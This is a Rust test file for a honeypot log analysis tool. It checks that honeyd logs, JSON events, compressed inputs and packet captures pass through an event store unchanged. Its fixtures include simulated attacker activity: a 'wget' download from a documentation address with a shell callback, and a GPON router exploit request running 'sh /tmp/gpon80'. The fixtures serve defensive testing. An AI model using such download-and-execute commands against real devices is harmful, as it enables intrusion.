//! The store end to end: real and generated inputs in, the same events out.

use std::io::Write;
use std::path::{Path, PathBuf};

use honeyscope_analyze::source::{self, ReadOptions};
use honeyscope_analyze::store::{IngestOutcome, Store};
use honeyscope_event::{honeyd, jsonl, Event, LocalZone};
use honeyscope_wire::capture::{LinkType, PcapWriter};

fn shared(rel: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared")
        .join(rel)
}

fn real_log() -> PathBuf {
    shared("data/honeyd/honeyevse-2023-04-28.log")
}

fn opts(tz: &str) -> ReadOptions {
    ReadOptions {
        tz: LocalZone::named(tz).unwrap(),
        sensor: None,
        progress: None,
    }
}

fn store_events(dir: &Path) -> Vec<Event> {
    let mut v = Vec::new();
    Store::open(dir)
        .unwrap()
        .for_each_event(|e| v.push(e))
        .unwrap();
    v
}

fn added(outcome: IngestOutcome) -> honeyscope_analyze::store::ManifestEntry {
    match outcome {
        IngestOutcome::Added { entry, report } => {
            assert_eq!(report.skipped.count, 0, "{:?}", report.skipped);
            entry
        }
        other => panic!("expected a new input, got {other:?}"),
    }
}

#[test]
fn real_honeyd_log_through_the_store_is_byte_exact() {
    let dir = tempfile::tempdir().unwrap();
    let original = std::fs::read(real_log()).unwrap();
    for tz in ["Europe/Rome", "UTC"] {
        let store = dir.path().join(tz.replace('/', "_"));
        let mut w = Store::open_writer(&store).unwrap();
        let entry = added(w.ingest(&real_log(), &opts(tz), 2).unwrap());
        assert_eq!(entry.events, 431);
        assert_eq!(entry.records, 431);
        drop(w);
        let zone = LocalZone::named(tz).unwrap();
        let mut out = String::new();
        for ev in store_events(&store) {
            honeyd::write_event(&ev, &zone, &mut out);
        }
        assert_eq!(out.as_bytes(), &original[..], "zone {tz}");
    }
}

#[test]
fn every_field_round_trips_through_the_store() {
    // JSON carries every field, sensor included; mix forms, families and days.
    let lines = [
        r#"{"ts":"2016-04-01T23:59:59.999999Z","sensor":"tokyo-1","event":"log_started"}"#,
        r#"{"ts":"2016-04-02T00:00:00.000001Z","sensor":"tokyo-1","event":"packet","kind":"probe","proto":6,"proto_name":"tcp","src":"203.0.113.9","sport":4711,"dst":"198.51.100.7","dport":23,"ip_len":40,"tcp_flags":"FSRPAUEC","os":"Linux 2.6 ","remark":"Honeyd Scanner?"}"#,
        r#"{"ts":"2016-04-02T00:00:01Z","event":"packet","kind":"flow_end","proto":17,"proto_name":"udp","src":"2001:db8::1","sport":53,"dst":"2001:db8::2","dport":53413,"rx_bytes":18446744073709551615,"tx_bytes":0}"#,
        r#"{"ts":"2016-04-03T00:00:01Z","event":"packet","kind":"probe","proto":58,"proto_name":"ipv6-icmp","src":"2001:db8::1","dst":"2001:db8::2","icmp_type":128,"icmp_code":0,"ip_len":104}"#,
        r#"{"ts":"2016-04-03T00:00:02Z","event":"packet","kind":"probe","proto":47,"proto_name":"GRE","src":"203.0.113.9","dst":"198.51.100.7","ip_len":64,"os":"Windows XP SP1"}"#,
        r#"{"ts":"2016-04-03T00:00:03Z","event":"packet","kind":"flow_start","proto":6,"proto_name":"tcp","src":"203.0.113.9","sport":1,"dst":"198.51.100.7","dport":80}"#,
        r#"{"ts":"1969-12-31T23:59:59Z","event":"log_stopped"}"#,
        r#"{"ts":"2016-04-03T00:00:04.5Z","sensor":"tokyo-1","event":"session","eventid":"cowrie.session.file_download","session":"a1b2c3d4e5f6","protocol":"telnet","src_ip":"203.0.113.9","src_port":40000,"dst_ip":"198.51.100.7","dst_port":23,"timestamp":"2016-04-03T00:00:04.500000Z","input":"wget http://198.51.100.1/a","url":"http://198.51.100.1:8080/a","host":"198.51.100.1","port":8080,"method":"wget","outfile":"artifacts/abab","destfile":"/tmp/a","shasum":"abab","size":1234,"arch":"arm","callback":"198.51.100.1:4444","duration":1.5,"message":"Downloaded URL","profile":"dvr"}"#,
        r#"{"eventid":"cowrie.client.var","name":"TERM","value":"xterm","src_ip":"2001:db8::9","session":"9f8e7d6c5b4a","sensor":"c","timestamp":"2016-04-03T00:00:05Z","uuid":"x"}"#,
        r#"{"ts":"2016-04-03T00:00:06Z","sensor":"tokyo-1","event":"http","eventid":"honeyscope.http.request","session":"0f1e2d3c4b5a","protocol":"http","src_ip":"203.0.113.9","src_port":40001,"dst_ip":"198.51.100.7","dst_port":8080,"timestamp":"2016-04-03T00:00:06.000000Z","host":"198.51.100.7:8080","method":"POST","target":"/GponForm/diag_Form?images/","path":"/GponForm/diag_Form","query":"images/","version":"HTTP/1.1","user_agent":"Hello, World","headers":[["Host","198.51.100.7:8080"],["Cookie","a"],["Cookie","b\\x0d"]],"body_size":118,"body_sha256":"cdcd","body_head":"XWebPageName=diag","status":200,"exploit":"gpon-diag-form","commands":["cd /tmp","sh /tmp/gpon80"],"error":"x","profile":"gpon-ont"}"#,
        r#"{"ts":"2016-04-03T00:00:07Z","event":"http","eventid":"honeyscope.http.request","session":"0f1e2d3c4b5a","protocol":"http","src_ip":"203.0.113.9","src_port":40001,"dst_ip":"198.51.100.7","dst_port":8080,"timestamp":"2016-04-03T00:00:07.000000Z","body_size":0,"status":0,"error":"header too large"}"#,
    ];
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("events.jsonl");
    std::fs::write(&input, lines.join("\n") + "\n").unwrap();
    let mut expected = Vec::new();
    let report = source::read_file(&input, &opts("UTC"), |e| expected.push(e)).unwrap();
    assert_eq!(report.skipped.count, 0, "{:?}", report.skipped);
    assert_eq!(expected.len(), lines.len());

    let store = dir.path().join("store");
    let mut w = Store::open_writer(&store).unwrap();
    let entry = added(w.ingest(&input, &opts("UTC"), 2).unwrap());
    drop(w);
    let mut dates: Vec<_> = entry
        .files
        .iter()
        .map(|f| f.split('/').next().unwrap().to_string())
        .collect();
    dates.dedup();
    assert_eq!(
        dates,
        [
            "date=1969-12-31",
            "date=2016-04-01",
            "date=2016-04-02",
            "date=2016-04-03"
        ]
    );
    // The store reads back day by day: the same events, sorted by day.
    let mut got = store_events(&store);
    let mut want = expected.clone();
    want.sort_by_key(|e| e.time().utc_day());
    got.sort_by_key(|e| e.time().utc_day());
    assert_eq!(got, want);
    // And the JSON written from them is the JSON read.
    let mut json = String::new();
    for e in &got {
        jsonl::write_event(e, &mut json);
    }
    for line in json.lines() {
        let mut again = String::new();
        jsonl::write_event(&jsonl::parse_line(line.as_bytes()).unwrap(), &mut again);
        assert_eq!(again, format!("{line}\n"));
    }
}

#[test]
fn the_same_content_is_stored_once() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let copy = dir.path().join("renamed.log");
    std::fs::copy(real_log(), &copy).unwrap();
    let mut w = Store::open_writer(&store).unwrap();
    added(w.ingest(&real_log(), &opts("UTC"), 2).unwrap());
    match w.ingest(&copy, &opts("UTC"), 2).unwrap() {
        IngestOutcome::Duplicate { previous, .. } => {
            assert_eq!(previous, real_log().display().to_string())
        }
        other => panic!("duplicate not detected: {other:?}"),
    }
    drop(w);
    // A new writer (a later run) sees the manifest too.
    let mut w = Store::open_writer(&store).unwrap();
    assert!(matches!(
        w.ingest(&copy, &opts("UTC"), 1).unwrap(),
        IngestOutcome::Duplicate { .. }
    ));
    drop(w);
    let s = Store::open(&store).unwrap();
    assert_eq!(s.entries().len(), 1);
    assert_eq!(s.event_count(), 431);
    assert_eq!(store_events(&store).len(), 431);
}

#[test]
fn compressed_inputs_give_the_same_events() {
    let dir = tempfile::tempdir().unwrap();
    let original = std::fs::read(real_log()).unwrap();
    let gz = dir.path().join("log.gz");
    let mut enc = flate2::write::GzEncoder::new(
        std::fs::File::create(&gz).unwrap(),
        flate2::Compression::default(),
    );
    enc.write_all(&original).unwrap();
    enc.finish().unwrap();
    let zst = dir.path().join("log.zst");
    std::fs::write(&zst, zstd::encode_all(&original[..], 3).unwrap()).unwrap();

    let mut plain = Vec::new();
    source::read_file(&real_log(), &opts("UTC"), |e| plain.push(e)).unwrap();
    for (i, input) in [gz, zst].iter().enumerate() {
        let store = dir.path().join(format!("store{i}"));
        let mut w = Store::open_writer(&store).unwrap();
        added(w.ingest(input, &opts("UTC"), 2).unwrap());
        drop(w);
        assert_eq!(store_events(&store), plain, "{}", input.display());
    }
}

#[test]
fn bad_lines_are_counted_with_their_line_numbers_across_blocks() {
    // Bigger than one read block, so line numbers must carry across blocks.
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("big.log");
    let good = "2016-04-01-00:00:01.0000 tcp(6) - 203.0.113.9 4711 198.51.100.7 23: 40 S\n";
    let lines_needed = source::CHUNK_BYTES / good.len() + 10_000;
    let bad_at = [3usize, lines_needed - 5];
    let mut text = String::with_capacity(lines_needed * good.len());
    for i in 1..=lines_needed {
        if bad_at.contains(&i) {
            text.push_str("this is not a honeyd line\n");
        } else {
            text.push_str(good);
        }
    }
    std::fs::write(&input, &text).unwrap();
    let store = dir.path().join("store");
    let mut w = Store::open_writer(&store).unwrap();
    match w.ingest(&input, &opts("UTC"), 2).unwrap() {
        IngestOutcome::Added { report, entry } => {
            assert_eq!(report.records, lines_needed as u64);
            assert_eq!(report.skipped.count, 2);
            let at: Vec<u64> = report.skipped.examples.iter().map(|e| e.record).collect();
            assert_eq!(at, bad_at.map(|n| n as u64));
            assert_eq!(report.skipped.examples[0].text, "this is not a honeyd line");
            assert_eq!(entry.events, lines_needed as u64 - 2);
            assert_eq!(entry.skipped, 2);
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn leftovers_of_a_crashed_ingest_are_not_counted_and_are_cleaned() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let w = Store::open_writer(&store).unwrap();
    drop(w);
    // What a crash after renaming files but before the manifest would leave.
    let digest = honeyscope_analyze::ingest::file_digest(&real_log()).unwrap();
    let part = store.join("date=2023-04-28");
    std::fs::create_dir_all(&part).unwrap();
    let stray = part.join(format!("part-{}-000000.parquet", &digest[..16]));
    std::fs::write(&stray, b"half a file").unwrap();
    std::fs::create_dir_all(store.join(".staging-1-2")).unwrap();
    assert!(
        store_events(&store).is_empty(),
        "uncommitted files are not read"
    );

    let mut w = Store::open_writer(&store).unwrap();
    assert!(!store.join(".staging-1-2").exists());
    added(w.ingest(&real_log(), &opts("UTC"), 2).unwrap());
    drop(w);
    assert_eq!(store_events(&store).len(), 431);
}

#[test]
fn captures_become_probe_events_and_truncation_is_a_warning() {
    use etherparse::PacketBuilder;
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("probes.pcap");
    let mut w =
        PcapWriter::new(std::fs::File::create(&input).unwrap(), LinkType::Ethernet).unwrap();
    let mac = ([2, 0, 0, 0, 0, 1], [2, 0, 0, 0, 0, 2]);
    let syn = {
        let b = PacketBuilder::ethernet2(mac.0, mac.1)
            .ipv4([203, 0, 113, 9], [198, 51, 100, 7], 64)
            .tcp(4711, 23, 1, 1024)
            .syn();
        let mut v = Vec::new();
        b.write(&mut v, &[]).unwrap();
        v
    };
    let udp = {
        let b = PacketBuilder::ethernet2(mac.0, mac.1)
            .ipv6(
                [0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1],
                [0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2],
                64,
            )
            .udp(53, 53413);
        let mut v = Vec::new();
        b.write(&mut v, &[1, 2, 3]).unwrap();
        v
    };
    let ping = {
        let b = PacketBuilder::ethernet2(mac.0, mac.1)
            .ipv4([203, 0, 113, 10], [198, 51, 100, 8], 64)
            .icmpv4_echo_request(1, 1);
        let mut v = Vec::new();
        b.write(&mut v, &[0; 56]).unwrap();
        v
    };
    let arp = {
        let mut v = vec![0xff; 6];
        v.extend_from_slice(&mac.0);
        v.extend_from_slice(&[0x08, 0x06]);
        v.extend_from_slice(&[0; 28]);
        v
    };
    let t0 = 1_459_468_800_000_000i64; // 2016-04-01T00:00:00Z
    w.write_frame(t0, &syn).unwrap();
    w.write_frame(t0 + 1, &udp).unwrap();
    w.write_frame(t0 + 2, &arp).unwrap();
    w.write_frame(t0 + 3, &ping).unwrap();
    w.flush().unwrap();
    drop(w);
    // A record header promising more than the file holds: a capture cut short.
    let mut bytes = std::fs::read(&input).unwrap();
    bytes.extend_from_slice(&[0u8; 10]);
    std::fs::write(&input, &bytes).unwrap();

    let store = dir.path().join("store");
    let mut sw = Store::open_writer(&store).unwrap();
    let report = match sw.ingest(&input, &opts("UTC"), 2).unwrap() {
        IngestOutcome::Added { report, .. } => report,
        other => panic!("{other:?}"),
    };
    assert_eq!(report.records, 4);
    assert_eq!(report.events, 3);
    assert_eq!(report.skipped.count, 1, "the ARP frame");
    assert_eq!(report.skipped.examples[0].record, 3);
    assert_eq!(report.warnings.len(), 1, "{:?}", report.warnings);
    drop(sw);

    let tz = LocalZone::utc();
    let mut text = String::new();
    for ev in store_events(&store) {
        honeyd::write_event(&ev, &tz, &mut text);
    }
    assert_eq!(
        text,
        "2016-04-01-00:00:00.0000 tcp(6) - 203.0.113.9 4711 198.51.100.7 23: 40 S\n\
         2016-04-01-00:00:00.0000 udp(17) - 2001:db8::1 53 2001:db8::2 53413: 51\n\
         2016-04-01-00:00:00.0000 icmp(1) - 203.0.113.10 198.51.100.8: 8(0): 84\n"
    );
}
